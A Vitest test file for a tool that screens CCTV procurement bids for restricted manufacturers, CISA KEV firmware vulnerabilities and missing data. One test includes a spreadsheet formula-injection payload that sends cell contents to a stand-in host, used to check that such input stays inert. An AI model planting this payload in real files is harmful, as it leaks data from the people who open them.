import { describe, expect, it } from 'vitest';
import { parsePolicy } from '../../../src/core/assess/policy.js';
import { ignoredBidColumns, mapBidColumns, toBidLine, type BidLine } from '../../../src/core/screen/columns.js';
import { compactScreening } from '../../../src/core/screen/json.js';
import { anyRestricted, screenBid, unquotedChecks } from '../../../src/core/screen/screen.js';
import type { Reason } from '../../../src/core/screen/types.js';
import { defaultPolicy } from '../../../src/ingest/policy.js';
import { identifyKnowledge } from '../../../src/kb/knowledge.js';
import { loadKnowledgeBase } from '../../../src/kb/load.js';

const NOW = '2026-06-01T09:00:00.000Z';
const kb = await loadKnowledgeBase();
const knowledge = identifyKnowledge(kb);
const policy = await defaultPolicy();

let nextRow = 2;
function line(fields: Partial<BidLine>): BidLine {
  return { row: nextRow++, brand: null, manufacturer: null, model: null, kind: null, components: null, firmware: null, origin: null, description: null, ...fields };
}

function screenOne(fields: Partial<BidLine>, p = policy) {
  return screenBid([line(fields)], { kb, knowledge, policy: p, now: NOW }).lines[0]!;
}

const reason = (reasons: readonly Reason[], kind: Reason['kind']) => reasons.find((r) => r.kind === kind);
const urls = (r: Reason | undefined) => (r?.sources ?? []).map((s) => s.url ?? s.ref);

describe('bid list columns', () => {
  it('maps Dutch and English headers, including combined ones, and reads a row by them', () => {
    const cols = mapBidColumns(['Nr', 'Merk / Brand', 'Type', 'Componenten', 'Firmwareversie', 'Land van herkomst'], 'bid.csv');
    expect(cols).toEqual({ brand: 1, model: 2, components: 3, firmware: 4, origin: 5 });
    expect(mapBidColumns(['Manufacturer', 'Model number', 'Software version', 'Country of origin'], 'x')).toEqual({ manufacturer: 0, model: 1, firmware: 2, origin: 3 });
    const l = toBidLine({ row: 3, cells: [1, 'Axis', 'P3265-LVE', '', ' 10.12 ', 'Zweden'] }, cols);
    expect(l).toMatchObject({ row: 3, brand: 'Axis', model: 'P3265-LVE', components: null, firmware: '10.12', origin: 'Zweden' });
    expect(toBidLine({ row: 4, cells: [5, '', '', '', '', ''] }, cols)).toBeNull();
  });

  it('recognises common Dutch and English headings: Fabrikaat, origin, firmware variants', () => {
    expect(mapBidColumns(['Fabrikaat', 'Type', 'Land van oorsprong', 'Versie firmware', 'Aantal'], 'b.csv')).toEqual({ brand: 0, model: 1, origin: 2, firmware: 3 });
    expect(mapBidColumns(['Merk', 'FW version', 'COO'], 'b.csv')).toEqual({ brand: 0, firmware: 1, origin: 2 });
  });

  it('reads a combined brand-and-type column as both brand and model', () => {
    for (const heading of ['Merk/Type', 'Fabrikaat/type', 'Merk en type', 'Brand / Model']) {
      const cols = mapBidColumns([heading, 'Firmware'], 'b.csv');
      expect(cols, heading).toEqual({ brandModel: 0, firmware: 1 });
      expect(toBidLine({ row: 2, cells: ['Hikvision DS-2CD2143G2-I', 'V5.7.3'] }, cols)).toMatchObject({ brand: 'Hikvision DS-2CD2143G2-I', model: 'Hikvision DS-2CD2143G2-I' });
    }
  });

  it('lists the headings no field was read from', () => {
    const headers = ['Fabrikaat', 'Type', 'Aantal', '', 'Prijs'];
    expect(ignoredBidColumns(headers, mapBidColumns(headers, 'b.csv'))).toEqual(['Aantal', 'Prijs']);
  });

  it('refuses a table without brand, maker or model column', () => {
    expect(() => mapBidColumns(['Locatie', 'Adres'], 'sites.csv')).toThrow(/no brand \(merk\), manufacturer \(fabrikant\) or model \(type\) column/);
  });
});

describe('screenBid', () => {
  it('judges a HiWatch line as Hikvision: restricted, with the OEM brand record and the measures as sources', () => {
    const s = screenOne({ brand: 'HiWatch', model: 'HWI-B121H', firmware: 'V5.5.0 build 190226' });
    expect(s.verdict).toBe('restricted');
    expect(s.maker).toMatchObject({ id: 'hikvision', name: 'Hikvision' });
    expect(s.maker!.evidence.some((e) => e.rule === 'kb:brand:HiWatch' && e.sources.length > 0)).toBe(true);
    const r = reason(s.reasons, 'restricted_manufacturer');
    expect(r?.why.en).toContain('sold under the brand HiWatch');
    expect(r?.evidence).toContainEqual({ ref: 'device.manufacturer', value: 'hikvision' });
    expect(r?.evidence.some((e) => e.ref === 'kb:brand:hiwatch')).toBe(true);
    expect(urls(r)).toContain('https://github.com/maciej-or/hikvision_next/pull/107');
    expect(urls(r)).toContain('https://www.eac.gov/what-section-889-fy-2019-ndaa');
  });

  it('restricts by the policy\'s adopted measures only', () => {
    const none = parsePolicy('extends: default\nname: none\nmeasures: []\nhuman_rights_measures: []\n', 'none.yaml', policy);
    const s = screenOne({ brand: 'HiWatch', model: 'HWI-B121H', firmware: 'V5.5.0' }, none);
    expect(reason(s.reasons, 'restricted_manufacturer')).toBeUndefined();
    expect(s.verdict).not.toBe('restricted');
  });

  it('flags a Dahua model in a CISA KEV family whose firmware is in the affected range, with the KEV sources', () => {
    const s = screenOne({ brand: 'Dahua', model: 'IPC-HFW5442E-ZE', firmware: 'V2.800.0000000.16.R, Build Date: 2019-12-11' });
    const r = reason(s.reasons, 'known_exploited_vulnerability');
    expect(r?.verdict).toBe('flagged');
    expect(r?.evidence.map((e) => e.ref)).toEqual(expect.arrayContaining(['kb:vulnerability:CVE-2021-33044', 'kb:vulnerability:CVE-2021-33045']));
    expect(urls(r).some((u) => u?.startsWith('cisagov/kev-data@'))).toBe(true);
  });

  it('does not accuse a firmware built after the fix of the KEV vulnerabilities', () => {
    const s = screenOne({ brand: 'Dahua', model: 'IPC-HFW5442E-ZE', firmware: 'V2.840.0000000.3.R, Build Date: 2022-03-01' });
    expect(reason(s.reasons, 'known_exploited_vulnerability')).toBeUndefined();
  });

  it('clears a complete Axis line', () => {
    const s = screenOne({ brand: 'Axis', model: 'P3265-LVE', firmware: '10.12.114', origin: 'Zweden' });
    expect(s).toMatchObject({ verdict: 'clear', reasons: [] });
    expect(s.maker?.id).toBe('axis');
  });

  it('asks for the model and the firmware when the line gives neither', () => {
    const s = screenOne({ brand: 'Axis', components: 'camera' });
    expect(s.verdict).toBe('incomplete');
    expect(s.reasons.map((r) => r.kind)).toEqual(['missing_model', 'missing_firmware']);
    expect(screenOne({ brand: 'Axis', model: 'P3265-LVE', firmware: 'onbekend' }).reasons.map((r) => r.kind)).toEqual(['missing_firmware']);
  });

  it('asks for the manufacturer\'s declaration for a low-confidence OEM label, citing the brand record', () => {
    const s = screenOne({ brand: 'LTS', model: 'CMIP3C42W-28', firmware: 'V5.6.3' });
    const r = reason(s.reasons, 'manufacturer_declaration');
    expect(s.verdict).toBe('incomplete');
    expect(r?.why.en).toContain("manufacturer's declaration");
    expect(r?.evidence).toContainEqual({ ref: 'kb:brand:LTS', value: 'hikvision (oem_whitelabel, low confidence)' });
    expect(urls(r)).toContain('https://blackboxusa.com/reasons-why-we-stopped-installing-hikvision-security-cameras/');
  });

  it('keeps a formula in a brand cell as inert text and asks who makes it', () => {
    const payload = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
    const s = screenOne({ brand: payload, model: 'IPC-1', firmware: '1.0' });
    expect(s.maker).toBeNull();
    expect(s.line.brand).toBe(payload);
    expect(reason(s.reasons, 'unknown_maker')?.why.en).toContain(payload);
  });

  it('screens a combined brand-and-type cell by its brand and its type', () => {
    const s = screenOne({ brand: 'Hikvision DS-2CD2143G2-I', model: 'Hikvision DS-2CD2143G2-I', firmware: 'V5.7.3' });
    expect(s.verdict).toBe('restricted');
    expect(s.line).toMatchObject({ brand: 'Hikvision', model: 'DS-2CD2143G2-I' });
  });

  it('judges every part named in the components: a Hikvision recorder makes an Axis line restricted', () => {
    const s = screenOne({ brand: 'Axis', model: 'P3265-LVE', components: 'camera + Hikvision DS-7608NI-K2 recorder', firmware: '10.12.114' });
    expect(s.maker?.id).toBe('axis');
    expect(s.verdict).toBe('restricted');
    const r = reason(s.reasons, 'restricted_manufacturer');
    expect(r?.evidence[0]).toEqual({ ref: 'bid.part', value: 'Hikvision DS-7608NI-K2 recorder' });
    expect(r?.why.en).toMatch(/^Part "Hikvision DS-7608NI-K2 recorder": /);
    expect(screenOne({ components: 'Hikvision DS-2CD2143G2-I', firmware: 'V5.7.3' }).verdict).toBe('restricted');
    expect(screenOne({ brand: 'Axis', model: 'P3265-LVE', description: 'camera / behuizing, voeding', firmware: '10.12.114' }).verdict).toBe('clear');
  });

  it('asks for the manufacturer\'s declaration when identification warns of another maker (Honeywell), quoting the warning', () => {
    const s = screenOne({ brand: 'Honeywell', model: 'HC30WB5R1', firmware: '1.0.2' });
    expect(s.verdict).toBe('incomplete');
    const r = reason(s.reasons, 'manufacturer_declaration');
    expect(r?.why.en).toContain('hikvision (oem_whitelabel, low confidence)');
    expect(r?.evidence.some((e) => e.ref === 'identify.check')).toBe(true);
    // Quoted by the reason, so not repeated as a separate warning.
    expect(unquotedChecks(s)).toEqual([]);
  });

  it('quotes the KB on a former subsidiary (Lorex) instead of saying the maker is unknown', () => {
    const s = screenOne({ brand: 'Lorex', model: 'LNB8005', firmware: '1.0' });
    expect(reason(s.reasons, 'unknown_maker')).toBeUndefined();
    expect(reason(s.reasons, 'manufacturer_declaration')?.why.en).toMatch(/dahua.*former_subsidiary, until 2022-11-24/);
  });

  it('does not flag KEV vulnerabilities when the firmware cannot be placed in the range, and asks for the build date', () => {
    const s = screenOne({ brand: 'Dahua', model: 'IPC-HFW5442E-ZE', firmware: 'V2.840.0000000.5.R' });
    expect(reason(s.reasons, 'known_exploited_vulnerability')).toBeUndefined();
    const r = reason(s.reasons, 'firmware_build_date');
    expect(r?.verdict).toBe('incomplete');
    expect(r?.why.en).toContain('CVE-2021-33044, CVE-2021-33045');
    expect(r?.why.en).toContain('build date');
    expect(urls(r).some((u) => u?.startsWith('cisagov/kev-data@'))).toBe(true);
  });

  it('notes a Chinese origin for a maker the policy does not restrict, without changing the verdict', () => {
    const s = screenOne({ brand: 'Axis', model: 'P3265-LVE', firmware: '10.12.114', origin: 'China' });
    expect(s.verdict).toBe('clear');
    expect(s.notes).toHaveLength(1);
    expect(s.notes[0]!.en).toContain('Country of origin "China"');
    expect(screenOne({ brand: 'HiWatch', model: 'HWI-B121H', firmware: 'V5.5.0', origin: 'China' }).notes).toEqual([]);
    expect(screenOne({ brand: 'Axis', model: 'P3265-LVE', firmware: '10.12.114', origin: 'Zweden' }).notes).toEqual([]);
  });

  it('lists each source once in the JSON form and refers to it by id from the lines', () => {
    const lines = Array.from({ length: 50 }, () => line({ brand: 'HiWatch', model: 'HWI-B121H', firmware: 'V5.5.0' }));
    const screening = screenBid(lines, { kb, knowledge, policy, now: NOW });
    const compact = compactScreening(screening);
    const ids = Object.keys(compact.sources);
    expect(new Set(Object.values(compact.sources).map((x) => JSON.stringify(x))).size).toBe(ids.length);
    const first = compact.lines[0] as { reasons: { sources: string[] }[]; maker: { evidence: { sources: string[] }[] } };
    expect(first.reasons[0]!.sources.length).toBeGreaterThan(0);
    for (const id of [...first.reasons[0]!.sources, ...first.maker.evidence.flatMap((e) => e.sources)]) expect(ids).toContain(id);
    expect(compact.sources[first.reasons[0]!.sources[0]!]).toEqual(screening.lines[0]!.reasons[0]!.sources[0]);
    // The sources were about half of every line; listed once they no longer grow with the lines.
    expect(JSON.stringify(compact).length).toBeLessThan(JSON.stringify(screening).length * 0.6);
  });

  it('counts verdicts over the lines and says when any line is restricted', () => {
    const screening = screenBid([line({ brand: 'Axis', model: 'P3265-LVE', firmware: '10.12.114' }), line({ brand: 'HiWatch', model: 'HWI-B121H', firmware: 'V5.5.0' })], { kb, knowledge, policy, now: NOW });
    expect(screening.counts).toEqual({ restricted: 1, flagged: 0, incomplete: 0, clear: 1 });
    expect(screening).toMatchObject({ screenedAt: NOW, kbVersion: kb.meta.version, policy: 'default' });
    expect(anyRestricted(screening)).toBe(true);
  });
});
